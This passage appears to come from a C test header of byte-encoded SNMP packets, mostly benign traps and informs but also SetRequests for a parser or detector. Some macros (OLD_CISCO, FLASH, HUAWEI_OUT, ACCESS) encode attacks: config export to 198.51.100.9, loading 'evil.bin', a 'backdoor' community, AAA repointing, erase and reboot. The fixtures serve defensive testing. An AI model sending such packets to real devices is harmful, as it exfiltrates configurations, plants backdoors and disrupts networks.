	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x24" /* SetRequest */ \
	    "\x02\x01\x20" /* request-id 32 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x19" /* varbinds */ \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x05\x82" \
	          "\x50" /* server */ \
	        "\x40\x04\xc6\x33\x64\x09" /* IpAddress 198.51.100.9 */

/* The same copy, column by column in messages of their own */
#define COPY_STEP_4 \
	"\x30\x2f" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x21" /* SetRequest */ \
	    "\x02\x01\x21" /* request-id 33 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x16" /* varbinds */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x0e\x82" \
	          "\x50" /* active */ \
	        "\x02\x01\x01" /* 1 */

/* HUAWEI-CONFIG-MAN: running configuration to a server, with a password */
#define HUAWEI_OUT \
	"\x30\x81\x9b" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x81\x8c" /* SetRequest */ \
	    "\x02\x01\x17" /* request-id 23 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x81\x80" /* varbinds */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x02\x04\x01\x02" \
	          "\x01" /* hwCfgOperateType running2Net */ \
	        "\x02\x01\x03" /* 3 */ \
	      "\x30\x1d" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x02\x04\x01\x04" \
	          "\x01" /* file */ \
	        "\x04\x0a" "vrpcfg.zip" \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x02\x04\x01\x05" \
	          "\x01" /* server */ \
	        "\x40\x04\xc6\x33\x64\x09" /* IpAddress 198.51.100.9 */ \
	      "\x30\x1a" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x02\x04\x01\x07" \
	          "\x01" /* hwCfgOperateUserPassword */ \
	        "\x04\x07" "hunter2" \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x02\x04\x01\x09" \
	          "\x01" /* row status */ \
	        "\x02\x01\x04" /* 4 */

/* A trap as an odd encoder writes the tag: 4 in an octet of its own */
#define HIGH_TAG \
	"\x30\x35" /* message */ \
	  "\x02\x01\x00" /* version 0 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xbf\x04\x27" /* Trap */ \
	    "\x06\x09\x2b\x06\x01\x04\x01\x04\x01\x02\x15" /* enterprise */ \
	    "\x40\x04\x7f\x00\x00\x01" /* agent-addr 127.0.0.1 */ \
	    "\x02\x01\x06" /* generic-trap 6 */ \
	    "\x02\x01\x00" /* specific-trap 0 */ \
	    "\x43\x01\x06" /* time-stamp */ \
	    "\x30\x0b" /* varbinds */ \
	      "\x30\x09" /* varbind */ \
	        "\x06\x05\x2b\x06\x01\x02\x01" /* 1.3.6.1.2.1 */ \
	        "\x05\x00" /* NULL */

/* The old Cisco tables: export, save, import, reload, erase */
#define OLD_CISCO \
	"\x30\x81\x84" /* message */ \
	  "\x02\x01\x00" /* version 0 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x76" /* SetRequest */ \
	    "\x02\x01\x18" /* request-id 24 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x6b" /* varbinds */ \
	      "\x30\x1e" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x02\x01\x37\x81\x46\x33\x64\x09" /* writeNet.198.51.100.9 */ \
	        "\x04\x0c" "router-confg" \
	      "\x30\x0f" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x04\x01\x09\x02\x01\x36\x00" /* writeMem */ \
	        "\x02\x01\x01" /* 1 */ \
	      "\x30\x16" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x02\x01\x35\x81\x46\x33\x64\x09" /* hostConfigSet */ \
	        "\x04\x04" "evil" \
	      "\x30\x0f" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x04\x01\x09\x02\x09\x09\x00" /* tsMsgSend reload */ \
	        "\x02\x01\x02" /* 2 */ \
	      "\x30\x0f" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x04\x01\x09\x02\x01\x36\x00" /* writeMem 0: erase */ \
	        "\x02\x01\x00" /* 0 */

/* CISCO-FLASH: an image onto the element */
#define FLASH \
	"\x30\x77" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x69" /* SetRequest */ \
	    "\x02\x01\x19" /* request-id 25 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x5e" /* varbinds */ \
	      "\x30\x13" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x09\x0a\x01\x02\x01\x01\x02\x07" /* ciscoFlashCopyCommand copyToFlashWithoutErase */ \
	        "\x02\x01\x02" /* 2 */ \
	      "\x30\x16" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x09\x0a\x01\x02\x01\x01\x04\x07" /* server */ \
	        "\x40\x04\xc6\x33\x64\x09" /* IpAddress 198.51.100.9 */ \
	      "\x30\x1a" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x09\x0a\x01\x02\x01\x01\x05\x07" /* source */ \
	        "\x04\x08" "evil.bin" \
	      "\x30\x13" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x09\x0a\x01\x02\x01\x01\x0b\x07" /* status */ \
	        "\x02\x01\x04" /* 4 */

/* A user of Comware gets a password (HH3C-USER-MIB). */
#define VENDOR_PASSWORD \
	"\x30\x33\x02\x01\x01\x04\x07\x70\x72\x69\x76\x61\x74\x65\xa3\x25\x02\x01\x09\x02" \
	"\x01\x00\x02\x01\x00\x30\x1a\x30\x18\x06\x0f\x2b\x06\x01\x04\x01\x81\xc7\x22\x02" \
	"\x0c\x01\x01\x01\x02\x01\x04\x05\x74\x75\x6c\x69\x70"

/* A set of what gives access, mirrors, repoints AAA and reboots */
#define ACCESS \
	"\x30\x81\xd1" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x81\xc2" /* SetRequest */ \
	    "\x02\x01\x1a" /* request-id 26 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x81\xb6" /* varbinds */ \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0b\x2b\x06\x01\x06\x03\x12\x01\x01\x01\x02\x07" /* snmpCommunityName */ \
	        "\x04\x08" "backdoor" \
	      "\x30\x18" /* varbind */ \
	        "\x06\x13\x2b\x06\x01\x06\x03\x0f\x01\x02\x02\x01\x0d\x05\x01\x02" \
	          "\x03\x04\x05\x01\x61" /* usmUserStatus */ \
	        "\x02\x01\x04" /* 4 */ \
	      "\x30\x13" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x02\x01\x10\x16\x01\x03\x01\x01\x05\x01\x02" /* portCopyStatus */ \
	        "\x02\x01\x04" /* 4 */ \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x0a\x38\x01\x01\x02\x01\x03\x01" \
	          "\x01" /* casAddress */ \
	        "\x40\x04\xc6\x33\x64\x09" /* IpAddress 198.51.100.9 */ \
	      "\x30\x19" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x06\x03\x0c\x01\x02\x01\x03\x04\x74\x72\x61" \
	          "\x70" /* 1.3.6.1.6.3.12.1.2.1.3.4.116.114.97.112 */ \
	        "\x04\x06\xc6\x33\x64\x09\x00\xa2" /* snmpTargetAddrTAddress 198.51.100.9:162 */ \
	      "\x30\x13" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x8f\x5b\x05\x19\x13\x01\x03\x02\x00" /* hwSysReloadAction reboot */ \
	        "\x02\x01\x03" /* 3 */ \
	      "\x30\x11" /* varbind */ \
	        "\x06\x0c\x2b\x06\x01\x04\x01\xf5\x0c\x01\x01\x07\x01\x00" /* mtxrSystemReboot */ \
	        "\x02\x01\x01" /* 1 */ \
	      "\x30\x10" /* varbind */ \
	        "\x06\x0b\x2b\x06\x01\x04\x01\x86\x8d\x1f\x01\x02\x00" /* unknown */ \
	        "\x04\x01" "x"

/* Version 1: authenticationFailure, with the address of who failed */
#define TRAP_AUTH \
	"\x30\x3d" /* message */ \
	  "\x02\x01\x00" /* version 0 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa4\x30" /* Trap */ \
	    "\x06\x08\x2b\x06\x01\x04\x01\x09\x01\x01" /* enterprise */ \
	    "\x40\x04\x0a\x00\x00\x01" /* agent-addr 10.0.0.1 */ \
	    "\x02\x01\x04" /* generic-trap 4 */ \
	    "\x02\x01\x00" /* specific-trap 0 */ \
	    "\x43\x02\x01\xf4" /* time-stamp */ \
	    "\x30\x14" /* varbinds */ \
	      "\x30\x12" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x04\x01\x09\x02\x01\x05\x00" /* 1.3.6.1.4.1.9.2.1.5.0 */ \
	        "\x40\x04\xcb\x00\x71\x05" /* authAddr 203.0.113.5 */

/* Version 1: ciscoConfigManEvent of another agent address */
#define TRAP_CONFIG_V1 \
	"\x30\x69" /* message */ \
	  "\x02\x01\x00" /* version 0 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa4\x5c" /* Trap */ \
	    "\x06\x09\x2b\x06\x01\x04\x01\x09\x09\x2b\x02" /* enterprise */ \
	    "\x40\x04\x0a\x09\x09\x09" /* agent-addr 10.9.9.9 */ \
	    "\x02\x01\x06" /* generic-trap 6 */ \
	    "\x02\x01\x01" /* specific-trap 1 */ \
	    "\x43\x02\x01\xf5" /* time-stamp */ \
	    "\x30\x3f" /* varbinds */ \
	      "\x30\x13" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x09\x2b\x01\x01\x06\x01\x03\x07" /* command source */ \
	        "\x02\x01\x01" /* 1 */ \
	      "\x30\x13" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x09\x2b\x01\x01\x06\x01\x04\x07" /* config source: command source */ \
	        "\x02\x01\x02" /* 2 */ \
	      "\x30\x13" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x09\x09\x2b\x01\x01\x06\x01\x05\x07" /* config destination: running */ \
	        "\x02\x01\x03" /* 3 */

/* coldStart */
#define TRAP_COLD \
	"\x30\x40" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa7\x33" /* SNMPv2-Trap */ \
	    "\x02\x01\x28" /* request-id 40 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x28" /* varbinds */ \
	      "\x30\x0d" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x03\x00" /* 1.3.6.1.2.1.1.3.0 */ \
	        "\x43\x01\x4d" /* sysUpTime */ \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x06\x03\x01\x01\x04\x01\x00" /* snmpTrapOID.0 */ \
	        "\x06\x09\x2b\x06\x01\x06\x03\x01\x01\x05\x01" /* 1.3.6.1.6.3.1.1.5.1 */

/* linkDown attests nothing that a manager did */
#define TRAP_LINK \
	"\x30\x51" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa7\x44" /* SNMPv2-Trap */ \
	    "\x02\x01\x29" /* request-id 41 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x39" /* varbinds */ \
	      "\x30\x0d" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x03\x00" /* 1.3.6.1.2.1.1.3.0 */ \
	        "\x43\x01\x4d" /* sysUpTime */ \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x06\x03\x01\x01\x04\x01\x00" /* snmpTrapOID.0 */ \
	        "\x06\x09\x2b\x06\x01\x06\x03\x01\x01\x05\x03" /* 1.3.6.1.6.3.1.1.5.3 */ \
	      "\x30\x0f" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x02\x01\x02\x02\x01\x01\x07" /* ifIndex.7 */ \
	        "\x02\x01\x07" /* 7 */

/* An inform: jnxCmCfgChange by alice */
#define INFORM_JUNOS \
	"\x30\x5b" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa6\x4e" /* InformRequest */ \
	    "\x02\x01\x2a" /* request-id 42 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x43" /* varbinds */ \
	      "\x30\x0d" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x03\x00" /* 1.3.6.1.2.1.1.3.0 */ \
	        "\x43\x01\x4d" /* sysUpTime */ \
	      "\x30\x19" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x06\x03\x01\x01\x04\x01\x00" /* snmpTrapOID.0 */ \
	        "\x06\x0b\x2b\x06\x01\x04\x01\x94\x4c\x04\x05\x00\x01" /* 1.3.6.1.4.1.2636.4.5.0.1 */ \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0e\x2b\x06\x01\x04\x01\x94\x4c\x03\x12\x01\x07\x01\x05\x36" /* jnxCmCfgChgEventUser */ \
	        "\x04\x05" "alice"

/* ... which the manager answers */
#define INFORM_ANSWER \
	"\x30\x42" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa2\x35" /* Response */ \
	    "\x02\x01\x2a" /* request-id 42 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x2a" /* varbinds */ \
	      "\x30\x0d" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x03\x00" /* 1.3.6.1.2.1.1.3.0 */ \
	        "\x43\x01\x4d" /* sysUpTime */ \
	      "\x30\x19" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x06\x03\x01\x01\x04\x01\x00" /* snmpTrapOID.0 */ \
	        "\x06\x0b\x2b\x06\x01\x04\x01\x94\x4c\x04\x05\x00\x01" /* 1.3.6.1.4.1.2636.4.5.0.1 */

/* hwCfgManEventlog, relayed: the configuration went to a server */
#define TRAP_HUAWEI \
	"\x30\x81\x9b" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa7\x81\x8d" /* SNMPv2-Trap */ \
	    "\x02\x01\x2b" /* request-id 43 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x81\x81" /* varbinds */ \
	      "\x30\x0d" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x03\x00" /* 1.3.6.1.2.1.1.3.0 */ \
	        "\x43\x01\x4d" /* sysUpTime */ \
	      "\x30\x19" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x06\x03\x01\x01\x04\x01\x00" /* snmpTrapOID.0 */ \
	        "\x06\x0b\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x02\x01" /* 1.3.6.1.4.1.2011.6.10.2.1 */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x01\x07\x01\x04" \
	          "\x01" /* from running */ \
	        "\x02\x01\x02" /* 2 */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x01\x07\x01\x05" \
	          "\x01" /* to a server */ \
	        "\x02\x01\x06" /* 6 */ \
	      "\x30\x16" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x01\x07\x01\x07" \
	          "\x01" /* user */ \
	        "\x04\x03" "bob" \
	      "\x30\x11" /* varbind */ \
	        "\x06\x09\x2b\x06\x01\x06\x03\x12\x01\x03\x00" /* 1.3.6.1.6.3.18.1.3.0 */ \
	        "\x40\x04\x0a\x07\x07\x07" /* snmpTrapAddress 10.7.7.7 */

/* hwUserLoginFail of eve from 10.66.0.66 */
#define TRAP_HUAWEI_LOGIN_FAIL \
	"\x30\x7f\x02\x01\x01\x04\x06\x70\x75\x62\x6c\x69\x63\xa7\x72\x02" \
	"\x01\x2b\x02\x01\x00\x02\x01\x00\x30\x67\x30\x0d\x06\x08\x2b\x06" \
	"\x01\x02\x01\x01\x03\x00\x43\x01\x4d\x30\x1b\x06\x0a\x2b\x06\x01" \
	"\x06\x03\x01\x01\x04\x01\x00\x06\x0d\x2b\x06\x01\x04\x01\x8f\x5b" \
	"\x05\x19\x81\x4f\x02\x03\x30\x18\x06\x11\x2b\x06\x01\x04\x01\x8f" \
	"\x5b\x05\x19\x81\x4f\x01\x02\x01\x01\x02\x22\x04\x03\x65\x76\x65" \
	"\x30\x1f\x06\x11\x2b\x06\x01\x04\x01\x8f\x5b\x05\x19\x81\x4f\x01" \
	"\x02\x01\x01\x03\x22\x04\x0a\x31\x30\x2e\x36\x36\x2e\x30\x2e\x36" \
	"\x36"

/* hwCfgManEventlog: what bob typed at 10.1.1.1 went into the running configuration */
#define TRAP_HUAWEI_CHANGE \
	"\x30\x81\xa1\x02\x01\x01\x04\x06\x70\x75\x62\x6c\x69\x63\xa7\x81" \
	"\x93\x02\x01\x2b\x02\x01\x00\x02\x01\x00\x30\x81\x87\x30\x0d\x06" \
	"\x08\x2b\x06\x01\x02\x01\x01\x03\x00\x43\x01\x4d\x30\x19\x06\x0a" \
	"\x2b\x06\x01\x06\x03\x01\x01\x04\x01\x00\x06\x0b\x2b\x06\x01\x04" \
	"\x01\x8f\x5b\x06\x0a\x02\x01\x30\x14\x06\x0f\x2b\x06\x01\x04\x01" \
	"\x8f\x5b\x06\x0a\x01\x01\x07\x01\x04\x01\x02\x01\x03\x30\x14\x06" \
	"\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x01\x07\x01\x05\x01" \
	"\x02\x01\x02\x30\x16\x06\x0f\x2b\x06\x01\x04\x01\x8f\x5b\x06\x0a" \
	"\x01\x01\x07\x01\x07\x01\x04\x03\x62\x6f\x62\x30\x17\x06\x0f\x2b" \
	"\x06\x01\x04\x01\x8f\x5b\x06\x0a\x01\x01\x07\x01\x0a\x01\x40\x04" \
	"\x0a\x01\x01\x01"

/* hh3cLogIn */
#define TRAP_H3C_LOGIN \
	"\x30\x46\x02\x01\x01\x04\x06\x70\x75\x62\x6c\x69\x63\xa7\x39\x02" \
	"\x01\x2b\x02\x01\x00\x02\x01\x00\x30\x2e\x30\x0d\x06\x08\x2b\x06" \
	"\x01\x02\x01\x01\x03\x00\x43\x01\x4d\x30\x1d\x06\x0a\x2b\x06\x01" \
	"\x06\x03\x01\x01\x04\x01\x00\x06\x0f\x2b\x06\x01\x04\x01\x81\xc7" \
	"\x22\x02\x02\x01\x01\x03\x00\x01"

/* clang-format on */

#endif
